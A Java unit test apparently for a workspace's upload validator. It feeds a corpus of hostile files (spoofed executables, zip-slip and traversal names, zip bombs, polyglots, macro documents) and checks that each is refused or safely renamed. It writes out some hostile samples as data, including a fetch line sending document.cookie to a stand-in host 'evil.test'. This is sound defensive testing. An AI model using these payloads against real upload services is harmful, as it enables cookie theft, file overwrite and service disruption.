package io.clientworkspace.file;

import io.clientworkspace.ValidationException;
import io.clientworkspace.activity.ActivityEntry;
import io.clientworkspace.tck.SampleFiles;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.OptionalInt;
import java.util.function.Supplier;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;

import static io.clientworkspace.support.Fixture.fieldsOf;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

/**
 * What a hostile client might upload, and what the kit answers: each case is either refused with a
 * validation error that names the field and what was detected, leaving nothing behind (no blob file,
 * no file row, no activity entry, no event), or stored safely under a sanitized name with the type
 * detected from its bytes. A few legit files show the checks do not get in the way.
 */
class HostileUploadCorpusTest {

    @TempDir
    Path blobDir;

    /** What the kit must answer. */
    sealed interface Outcome {
    }

    /** Refused: a validation error on {@code field} whose message contains every one of {@code mentions}. */
    record Refused(String field, List<String> mentions) implements Outcome {
    }

    /** Stored under {@code name}, detected as {@code detectedType}. */
    record Stored(String name, String detectedType) implements Outcome {
    }

    /** One upload: its name, its bytes, the policy in force (the default one when empty) and the answer. */
    record Case(String name, Supplier<byte[]> content, ContentPolicy policy, Outcome outcome) {
    }

    private static Arguments refused(String title, String name, Supplier<byte[]> content, String field, String... mentions) {
        return refused(title, ContentPolicy.defaults(), name, content, field, mentions);
    }

    private static Arguments refused(String title, ContentPolicy policy, String name, Supplier<byte[]> content,
                                     String field, String... mentions) {
        return argumentSet(title, new Case(name, content, policy, new Refused(field, List.of(mentions))));
    }

    private static Arguments stored(String title, String name, Supplier<byte[]> content, String storedName,
                                    String detectedType) {
        return argumentSet(title, new Case(name, content, ContentPolicy.defaults(), new Stored(storedName, detectedType)));
    }

    private static Arguments stored(String title, ContentPolicy policy, String name, Supplier<byte[]> content,
                                    String storedName, String detectedType) {
        return argumentSet(title, new Case(name, content, policy, new Stored(storedName, detectedType)));
    }

    static Stream<Arguments> corpus() {
        String exe = "application/x-msdownload";
        String never = "which is never accepted";
        return Stream.concat(Stream.of(
                // Spoofed types: the bytes say what the name hides.
                refused("Windows executable named invoice.pdf", "invoice.pdf", SampleFiles::windowsExecutable, "content", exe, never),
                refused("Windows executable named photo.jpg", "photo.jpg", SampleFiles::windowsExecutable, "content", exe, never),
                refused("Windows executable named contract.docx", "contract.docx", SampleFiles::windowsExecutable, "content", exe),
                refused("Windows executable without an extension", "invoice", SampleFiles::windowsExecutable, "content", exe),
                refused("Linux ELF executable named image.png", "image.png", SampleFiles::elfExecutable, "content",
                        "application/x-executable", never),
                refused("HTML page with a script named notes.txt", "notes.txt", SampleFiles::html, "content", "text/html", never),
                refused("SVG with a script named logo.png", "logo.png", SampleFiles::svgWithScript, "content", "image/svg+xml", never),
                refused("JavaScript library named data.csv", "data.csv", SampleFiles::javascriptLibrary, "content",
                        "text/javascript", never),
                refused("PHP web shell named avatar.jpg", "avatar.jpg", SampleFiles::phpShell, "content", "text/x-php", never),
                refused("PHP web shell named shell.php", "shell.php", SampleFiles::phpShell, "content", "text/x-php", never),
                refused("shell script named install.pdf", "install.pdf", SampleFiles::shellScript, "content", "application/x-sh", never),
                refused("Windows batch file named run.txt", "run.txt", SampleFiles::batchFile, "content", "application/x-bat", never),
                refused("VBScript named macro.vbs", "macro.vbs", SampleFiles::vbScript, "content", "text/x-vbscript",
                        "from its name", never),
                refused("zip archive named report.pdf", "report.pdf", () -> SampleFiles.zip(Map.of("a.txt", SampleFiles.text("a"))),
                        "name", "says application/pdf (.pdf)", "detected as application/zip"),
                refused("plain text named contract.docx", "contract.docx", () -> SampleFiles.text("not a document"), "name",
                        "(.docx)", "detected as text/plain"),
                refused("unrecognisable bytes named scan.pdf", "scan.pdf", () -> new byte[] {1, 2, 3, 4, 5, 6, 7, 8, 0, 0},
                        "name", "says application/pdf (.pdf)", "detected as application/octet-stream"),
                refused("gzip archive (not on the allow-list) named backup.gz", "backup.gz", HostileUploadCorpusTest::gzip,
                        "content", "application/gzip", "which this workspace does not accept"),
                // Double extensions: the last one counts, and it is blocked whatever the bytes.
                refused("PDF named report.pdf.exe", "report.pdf.exe", SampleFiles::pdf, "content", "application/x-dosexec",
                        "from its name"),
                refused("JPEG named photo.jpg.html", "photo.jpg.html", SampleFiles::jpeg, "content", "text/html", "from its name"),
                refused("PDF named invoice.pdf.js", "invoice.pdf.js", SampleFiles::pdf, "content", "text/javascript", "from its name"),
                refused("upper-case double extension SETUP.PDF.EXE", "SETUP.PDF.EXE", SampleFiles::pdf, "content",
                        "application/x-dosexec", "from its name"),
                refused("trailing dot and spaces that Windows drops (invoice.exe. .)", "invoice.exe. .", SampleFiles::pdf,
                        "content", "application/x-dosexec", "from its name"),
                refused("NTFS alternate data stream syntax invoice.pdf:evil.exe", "invoice.pdf:evil.exe", SampleFiles::pdf,
                        "content", "application/x-dosexec", "from its name"),
                refused("a colon that browsers turn into _ (notes.txt:run.js)", "notes.txt:run.js",
                        () -> SampleFiles.text("WScript.CreateObject('WScript.Shell').Run('calc');"), "content",
                        "text/javascript", "from its name"),
                refused("a URL-like query hiding .exe (report.pdf?.exe)", "report.pdf?.exe", SampleFiles::pdf, "content",
                        "application/x-dosexec", "from its name"),
                refused("a URL-like fragment hiding .bat (notes.txt#.bat)", "notes.txt#.bat", () -> SampleFiles.text("calc.exe\r\n"),
                        "content", "application/x-bat", "from its name"),
                // Names that hide their extension.
                refused("right-to-left override hiding .exe (invoice\u202Efdp.exe)", "invoice\u202Efdp.exe", SampleFiles::pdf,
                        "content", "application/x-dosexec", "from its name"),
                refused("isolates hiding .exe (report\u2066.pdf\u2069.exe)", "report\u2066.pdf\u2069.exe", SampleFiles::pdf,
                        "content", "application/x-dosexec"),
                stored("right-to-left override shown as .jpg is stored without it", "invoice\u202Egpj.pdf", SampleFiles::pdf,
                        "invoicegpj.pdf", "application/pdf"),
                stored("NUL inside the name is removed", "a\u0000b.pdf", SampleFiles::pdf, "ab.pdf", "application/pdf"),
                stored("control and escape characters are removed", "notes\u0007\u001b[31m.txt", () -> SampleFiles.text("hi"),
                        "notes[31m.txt", "text/plain"),
                // Path traversal: only the last segment is kept, and the key never comes from the name.
                stored("Unix traversal ../../etc/passwd", "../../etc/passwd", () -> SampleFiles.text("root:x:0:0::/root:/bin/sh\n"),
                        "passwd", "text/plain"),
                stored("Windows traversal ..\\..\\boot.ini", "..\\..\\boot.ini", () -> SampleFiles.text("[boot loader]\n"),
                        "boot.ini", "text/x-ini"),
                stored("absolute path /absolute/path.pdf", "/absolute/path.pdf", SampleFiles::pdf, "path.pdf", "application/pdf"),
                stored("Windows absolute path C:\\x\\y.pdf", "C:\\x\\y.pdf", SampleFiles::pdf, "y.pdf", "application/pdf"),
                refused("a name that is only a parent reference (../..)", "../..", SampleFiles::pdf, "name", "not a usable file name"),
                // Windows device names.
                stored("reserved device name CON.pdf", "CON.pdf", SampleFiles::pdf, "_CON.pdf", "application/pdf"),
                stored("reserved device name nul.txt", "nul.txt", () -> SampleFiles.text("x"), "_nul.txt", "text/plain"),
                stored("reserved device name LPT1 without extension", "LPT1", () -> SampleFiles.text("x"), "_LPT1", "text/plain"),
                // Empty and oversize.
                refused("empty content", "empty.pdf", () -> new byte[0], "content", "is empty"),
                refused("empty name", "", SampleFiles::pdf, "name", "not a usable file name"),
                refused("blank name of spaces and dots", "  . .  ", SampleFiles::pdf, "name", "not a usable file name"),
                refused("larger than the policy's maximum size", ContentPolicy.defaults().withMaxSize(1024), "big.pdf",
                        () -> SampleFiles.pdf("x".repeat(4000)), "content", "larger than the limit of 1024 bytes"),
                stored("a 300-byte name is cut to 255 bytes keeping its extension", "a".repeat(296) + ".pdf", SampleFiles::pdf,
                        "a".repeat(251) + ".pdf", "application/pdf"),
                stored("a 300-byte name of 2-byte characters is cut on a character boundary", "\u00e9".repeat(148) + ".pdf",
                        SampleFiles::pdf, "\u00e9".repeat(125) + ".pdf", "application/pdf"),
                refused("a name of 5000 characters", "x".repeat(4996) + ".pdf", SampleFiles::pdf, "name", "far too long"),
                // Archives.
                refused("zip bomb: 1.1 GB of zeros in a 1 MB zip (expansion ratio limit off)",
                        ContentPolicy.defaults().withMaxExpansionRatio(Integer.MAX_VALUE), "backup.zip",
                        () -> SampleFiles.zipBomb("zeros.bin", 1100),
                        "content", "archive that expands to more than 1073741824 bytes"),
                refused("zip with 10,001 entries", "many.zip", () -> SampleFiles.zipWithEntries(10_001), "content",
                        "archive with more than 10000 entries"),
                refused("zip-slip entry ../../evil.sh", "photos.zip",
                        () -> SampleFiles.zip(Map.of("../../evil.sh", SampleFiles.shellScript())), "content",
                        "entry that escapes its folder: ../../evil.sh"),
                refused("zip-slip entry with backslashes ..\\..\\evil.bat", "photos.zip",
                        () -> SampleFiles.zip(Map.of("ok.txt", SampleFiles.text("ok"), "..\\..\\evil.bat", SampleFiles.batchFile())),
                        "content", "escapes its folder: ../../evil.bat"),
                refused("zip entry with an absolute path /etc/cron.d/evil", "photos.zip",
                        () -> SampleFiles.zip(Map.of("/etc/cron.d/evil", SampleFiles.shellScript())), "content",
                        "escapes its folder: /etc/cron.d/evil"),
                refused("docx-like zip with a zip-slip entry", "contract.docx", () -> SampleFiles.zip(Map.of(
                                "[Content_Types].xml", SampleFiles.text("<Types/>"), "word/../../../evil.sh", SampleFiles.shellScript())),
                        "content", "escapes its folder"),
                // Polyglots: what the first bytes say is what is stored, and served, so the other half never runs.
                stored("PDF header followed by an HTML page is kept as a PDF", "brochure.pdf", SampleFiles::pdfHtmlPolyglot,
                        "brochure.pdf", "application/pdf"),
                refused("HTML page followed by a PDF named brochure.pdf", "brochure.pdf",
                        () -> SampleFiles.concat(SampleFiles.html(), SampleFiles.pdf()), "content", "text/html"),
                stored("GIF/JavaScript polyglot named pixel.gif is kept as a GIF", "pixel.gif", SampleFiles::gifJavascriptPolyglot,
                        "pixel.gif", "image/gif"),
                refused("GIF/JavaScript polyglot named pixel.js", "pixel.js", SampleFiles::gifJavascriptPolyglot, "content",
                        "text/javascript", "from its name"),
                stored("PDF with a zip appended is kept as a PDF", "statement.pdf", SampleFiles::pdfWithTrailingZip,
                        "statement.pdf", "application/pdf"),
                stored("script text without a signature named data.csv is kept as CSV", "data.csv",
                        () -> SampleFiles.text("fetch('https://evil.test/?c=' + document.cookie);\n"), "data.csv", "text/csv"),
                // Legit files.
                stored("real PDF", "proposal.pdf", SampleFiles::pdf, "proposal.pdf", "application/pdf"),
                stored("real PNG", "logo.png", SampleFiles::png, "logo.png", "image/png"),
                stored("real JPEG", "photo.jpg", SampleFiles::jpeg, "photo.jpg", "image/jpeg"),
                stored("CSV", "invoices.csv", SampleFiles::csv, "invoices.csv", "text/csv"),
                stored("Word document (zip with [Content_Types].xml and word/document.xml)", "contract.docx", SampleFiles::docx,
                        "contract.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
                stored("zip archive of photos", "photos.zip",
                        () -> SampleFiles.zip(Map.of("a/one.png", SampleFiles.png(), "a/two.jpg", SampleFiles.jpeg())), "photos.zip",
                        "application/zip"),
                stored("Unicode name in decomposed form is stored composed", "Cafe\u0301 menu.pdf", SampleFiles::pdf,
                        "Caf\u00e9 menu.pdf", "application/pdf")), archivesAndOffice());
    }

    /**
     * Issue 10, finding 5: what archives and Office documents hide. Each entry is judged by its own bytes and name,
     * nested archives too; bombs are caught by the ratio of what is actually inflated; the central directory must
     * agree with the local headers; macros are refused whatever the document is named.
     */
    static Stream<Arguments> archivesAndOffice() {
        String never = "which is never accepted";
        String macros = "Office document with macros";
        return Stream.of(
                // Executables, scripts and markup inside.
                refused("zip holding a Linux ELF executable", "tools.zip",
                        () -> SampleFiles.deflatedZip("readme.txt", SampleFiles.text("run it"), "bin/run", SampleFiles.elfExecutable()),
                        "content", "entry bin/run was detected as application/x-executable", never),
                refused("zip holding a Windows PE executable named readme.txt", "docs.zip",
                        () -> SampleFiles.deflatedZip("docs/readme.txt", SampleFiles.windowsExecutable()), "content",
                        "entry docs/readme.txt was detected as application/x-msdownload", never),
                refused("zip holding a Mach-O executable", "mac.zip",
                        () -> SampleFiles.deflatedZip("Tool.app/Contents/MacOS/Tool", machO()), "content",
                        "entry Tool.app/Contents/MacOS/Tool was detected as application/x-mach-o-executable"),
                refused("zip holding a shell script", "setup.zip",
                        () -> SampleFiles.deflatedZip("install", SampleFiles.shellScript()), "content",
                        "entry install was detected as application/x-sh"),
                refused("zip holding an HTML page", "site.zip",
                        () -> SampleFiles.deflatedZip("index.htm", SampleFiles.html()), "content",
                        "entry index.htm was detected as text/html"),
                refused("zip holding an SVG with a script", "logos.zip",
                        () -> SampleFiles.deflatedZip("logo.svg", SampleFiles.svgWithScript()), "content",
                        "entry logo.svg was detected as image/svg+xml"),
                refused("zip holding plain text named app.js", "src.zip",
                        () -> SampleFiles.deflatedZip("app.js", SampleFiles.text("hello")), "content",
                        "entry app.js was detected as text/javascript from its name"),
                // Bombs, counted as they inflate.
                refused("ratio bomb: 4 x 64 MiB of zeros in a quarter of a MiB", "backup.zip",
                        () -> SampleFiles.zerosBomb(4, 64), "content",
                        "entry zeros0.bin expands more than 100 times its compressed size"),
                refused("single-entry ratio bomb: 8 MiB of zeros", "data.zip", () -> SampleFiles.zerosBomb(1, 8),
                        "content", "entry zeros0.bin expands more than 100 times its compressed size"),
                refused("overall ratio bomb: 100 entries of 1 MiB of zeros, each within the per-entry grace", "many.zip",
                        () -> SampleFiles.zerosBomb(100, 1), "content",
                        "is an archive that expands more than 100 times its compressed size"),
                refused("ratio bomb under a stricter ratio property (10)", ContentPolicy.defaults().withMaxExpansionRatio(10),
                        "text.zip", () -> SampleFiles.deflatedZip("log.txt", SampleFiles.text("ab".repeat(2 << 20))), "content",
                        "entry log.txt expands more than 10 times"),
                refused("ratio bomb whose headers claim 2 GiB of compressed data", "claims.zip",
                        () -> SampleFiles.withFirstEntryDeclaringCompressedSize(SampleFiles.zerosBomb(1, 8), 0x7FFFFFFF),
                        "content", "entry zeros0.bin expands more than 100 times its compressed size"),
                // Nesting.
                refused("zips nested 4 deep (limit 3)", "deep.zip",
                        () -> SampleFiles.nested(4, "a.txt", SampleFiles.text("deep")), "content",
                        "nests archives deeper than 3", "level2.zip!/level3.zip!/level4.zip"),
                refused("nested zip hiding an exe", "photos.zip",
                        () -> SampleFiles.nested(2, "setup.exe", SampleFiles.windowsExecutable()), "content",
                        "entry level2.zip!/setup.exe was detected as application/x-msdownload"),
                refused("nested zip hiding a zip bomb", "photos.zip",
                        () -> SampleFiles.deflatedZip("inner.zip", SampleFiles.zerosBomb(1, 16)), "content",
                        "inner.zip!/zeros0.bin expands more than 100 times"),
                refused("zip holding a gzip-compressed ELF executable", "tools.zip",
                        () -> SampleFiles.deflatedZip("bin/tool.gz", SampleFiles.gzip(SampleFiles.elfExecutable())), "content",
                        "entry bin/tool.gz is another kind of archive (application/gzip)", "only zip archives may be nested"),
                refused("zip holding a 7-Zip archive, told by its name", "photos.zip",
                        () -> SampleFiles.deflatedZip("more/photos.7z", SampleFiles.text("not really 7z")), "content",
                        "entry more/photos.7z is another kind of archive (application/x-7z-compressed, from its name)"),
                refused("OpenDocument text with a StarBasic macro", "minutes.zip",
                        () -> SampleFiles.deflatedZip("mimetype", SampleFiles.text("application/vnd.oasis.opendocument.text"),
                                "content.xml", SampleFiles.text("<office:document-content/>"),
                                "Basic/Standard/Module1.xml", SampleFiles.text("<script:module>Sub Main</script:module>")),
                        "content", "OpenDocument file with macros (entry Basic/Standard/Module1.xml)"),
                stored("zips nested 3 deep holding text are accepted", "deep.zip",
                        () -> SampleFiles.nested(3, "a.txt", SampleFiles.text("deep enough")), "deep.zip", "application/zip"),
                // Java and Android.
                refused("jar named tools.zip (classes and a manifest)", "tools.zip",
                        () -> SampleFiles.deflatedZip("META-INF/MANIFEST.MF", SampleFiles.text("Manifest-Version: 1.0\n"),
                                "com/evil/Main.class", javaClass()), "content",
                        "Java or Android package (entry com/evil/Main.class)", never),
                refused("apk-like zip (AndroidManifest.xml and classes.dex)", "app.zip",
                        () -> SampleFiles.deflatedZip("AndroidManifest.xml", new byte[] {3, 0, 8, 0}, "classes.dex",
                                SampleFiles.ascii("dex\n035\0")), "content", "Java or Android package (entry AndroidManifest.xml)"),
                refused("apk named app.apk", "app.apk", () -> SampleFiles.deflatedZip("classes.dex", SampleFiles.ascii("dex\n035\0")),
                        "content", "application/vnd.android.package-archive", "from its name"),
                // Office macros, whatever the name says.
                refused("Word document with macros named contract.docx", "contract.docx", SampleFiles::docm, "content",
                        macros, "[Content_Types].xml declares a macro-enabled content type"),
                refused("Excel workbook with macros named budget.xlsx", "budget.xlsx", SampleFiles::xlsm, "content",
                        macros, "macro-enabled"),
                refused("PowerPoint presentation with macros (pitch.pptm)", "pitch.pptm", SampleFiles::pptm, "content",
                        macros),
                refused("workbook hiding an undeclared vbaProject.bin", "budget.xlsx",
                        SampleFiles::xlsxWithHiddenVbaPart, "content", macros, "entry xl/vbaProject.bin"),
                refused("legacy Word document with a Macros storage", "letter.doc", () -> SampleFiles.ole2("Macros"),
                        "content", macros, "application/msword with a VBA project"),
                refused("legacy Excel workbook with a _VBA_PROJECT_CUR storage", "budget.xls",
                        () -> SampleFiles.ole2("Workbook", "_VBA_PROJECT_CUR"), "content", macros, "with a VBA project"),
                refused("zip holding a legacy Word document with macros", "letters.zip",
                        () -> SampleFiles.deflatedZip("letter.doc", SampleFiles.ole2("Macros")), "content",
                        "entry letter.doc is an Office document with macros"),
                // What the headers say.
                refused("central directory names another file than the local header", "invoices.zip",
                        () -> SampleFiles.raw(SampleFiles.RawEntry.stored("invoice.pdf", SampleFiles.pdf())
                                .withCentralName("invoice.exe")), "content",
                        "central directory and local header disagree on the entry invoice.pdf", "invoice.exe"),
                refused("central directory declares another size than the local header", "invoices.zip",
                        () -> SampleFiles.raw(SampleFiles.RawEntry.stored("invoice.pdf", SampleFiles.pdf())
                                .withCentralSize(10)), "content",
                        "central directory and local header disagree on the entry invoice.pdf"),
                refused("encrypted entry", "secret.zip", () -> SampleFiles.raw(
                        SampleFiles.RawEntry.stored("secret.txt", SampleFiles.text("x")).withFlags(0x801)), "content",
                        "encrypted entry: secret.txt"),
                refused("entry compressed with an unsupported method (bzip2)", "old.zip", () -> SampleFiles.raw(
                        SampleFiles.RawEntry.stored("a.txt", SampleFiles.text("x")).withMethod(12)), "content",
                        "entry a.txt uses compression method 12"),
                refused("the same entry name twice", "photos.zip", () -> SampleFiles.raw(
                        SampleFiles.RawEntry.stored("a.txt", SampleFiles.text("first")),
                        SampleFiles.RawEntry.stored("a.txt", SampleFiles.text("second"))), "content",
                        "holds the entry a.txt twice"),
                refused("entry name with a NUL hiding .exe", "photos.zip", () -> SampleFiles.raw(
                        SampleFiles.RawEntry.stored("x", SampleFiles.text("x")).withRawName(SampleFiles.latin1("a.txt\0.exe"))),
                        "content", "name contains NUL"),
                refused("entry name with a backslash", "docs.zip",
                        () -> SampleFiles.deflatedZip("docs\\readme.txt", SampleFiles.text("x")), "content",
                        "name contains a backslash"),
                refused("symbolic link entry pointing at /etc", "configs.zip", () -> SampleFiles.raw(
                        SampleFiles.RawEntry.stored("etc", SampleFiles.text("/etc")).asSymlink(),
                        SampleFiles.RawEntry.stored("notes.txt", SampleFiles.text("x"))), "content",
                        "symbolic link entry: etc"),
                refused("two archives glued together", "photos.zip", () -> SampleFiles.concat(
                        SampleFiles.deflatedZip("a.txt", SampleFiles.text("a")), SampleFiles.deflatedZip("b.exe", SampleFiles.text("b"))),
                        "content", "data after its end"),
                // Legit archives and documents.
                stored("Word document with macros accepted when the policy allows macros",
                        ContentPolicy.defaults().withMacrosAllowed(true), "contract.docm",
                        SampleFiles::docm, "contract.docm", "application/vnd.ms-word.document.macroenabled.12"),
                stored("Word document with an SVG image part", "brand.docx", () -> SampleFiles.ooxml(
                                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                                "word/document.xml", "word/media/image1.svg", SampleFiles.ascii("<svg xmlns=\"http://www.w3.org/2000/svg\"/>")),
                        "brand.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
                stored("binary workbook (.xlsb) without macros, whose content type says macroEnabled", "data.xlsb",
                        () -> SampleFiles.ooxml("application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xl/workbook.bin"),
                        "data.xlsb", "application/vnd.ms-excel.sheet.binary.macroenabled.12"),
                stored("legacy Word document without macros", "letter.doc", () -> SampleFiles.ole2("ObjectPool"),
                        "letter.doc", "application/msword"),
                stored("zip of a 3 MiB CSV written by java.util.zip (data descriptors, many buffers)", "export.zip",
                        () -> SampleFiles.zip(Map.of("export.csv", largeCsv())), "export.zip", "application/zip"),
                stored("zip holding a zip of photos", "album.zip", () -> SampleFiles.deflatedZip("2024.zip",
                        SampleFiles.deflatedZip("a.png", SampleFiles.png())), "album.zip", "application/zip"));
    }

    /** About 3 MiB of CSV rows of pseudo-random numbers (compresses a few times, far below the ratio limit). */
    private static byte[] largeCsv() {
        java.util.Random random = new java.util.Random(7);
        StringBuilder csv = new StringBuilder("id,amount,account\n");
        while (csv.length() < 3 << 20) {
            csv.append(random.nextInt(1_000_000)).append(',').append(random.nextInt(100_000)).append('.')
                    .append(random.nextInt(100)).append(",ACC-").append(random.nextInt(10_000)).append('\n');
        }
        return SampleFiles.text(csv.toString());
    }

    /** The start of a 64-bit Mach-O executable. */
    private static byte[] machO() {
        byte[] m = new byte[4096];
        byte[] head = {(byte) 0xCF, (byte) 0xFA, (byte) 0xED, (byte) 0xFE, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0};
        System.arraycopy(head, 0, m, 0, head.length);
        return m;
    }

    /** The start of a Java class file. */
    private static byte[] javaClass() {
        return new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 61, 0, 0};
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void eachUploadIsRefusedWithNothingLeftBehindOrStoredSafely(Case upload) {
        FileWorld w = FileWorld.create(blobDir, b -> b.contentPolicy(upload.policy()));
        byte[] bytes = upload.content().get();
        ActivityEntry headBefore = w.f.head(w.acme());

        if (upload.outcome() instanceof Refused refused) {
            ValidationException e = w.rejects(ValidationException.class, () -> w.upload(upload.name(), bytes));

            assertThat(fieldsOf(e)).containsExactly(refused.field());
            assertThat(e.getMessage()).contains(refused.mentions());
            assertThat(w.blobFiles()).as("files in the blob directory").isEmpty();
            assertThat(w.allFiles(w.f.tenant.id(), w.acme())).as("file rows").isEmpty();
            assertThat(w.f.head(w.acme())).as("the activity log's head").isEqualTo(headBefore);
            assertThat(w.f.events.all()).as("events").isEmpty();
        } else if (upload.outcome() instanceof Stored stored) {
            FileAsset file = w.upload(upload.name(), bytes);

            assertThat(file.name()).isEqualTo(stored.name());
            assertThat(file.name().getBytes(StandardCharsets.UTF_8).length).isLessThanOrEqualTo(FileNames.MAX_BYTES);
            FileVersion version = w.files.versions(w.f.bob, w.acme(), file.id()).get(0);
            assertThat(version.name()).isEqualTo(stored.name());
            assertThat(version.detectedType()).isEqualTo(stored.detectedType());
            assertThat(version.size()).isEqualTo(bytes.length);
            assertThat(version.sha256()).isEqualTo(SampleFiles.sha256(bytes));
            assertThat(version.blobKey()).matches("[0-9a-f]{32}").doesNotContain(stored.name());
            assertThat(w.download(w.f.carol, file.id(), OptionalInt.empty())).isEqualTo(bytes);
        }
    }

    private static byte[] gzip() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(SampleFiles.csv());
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
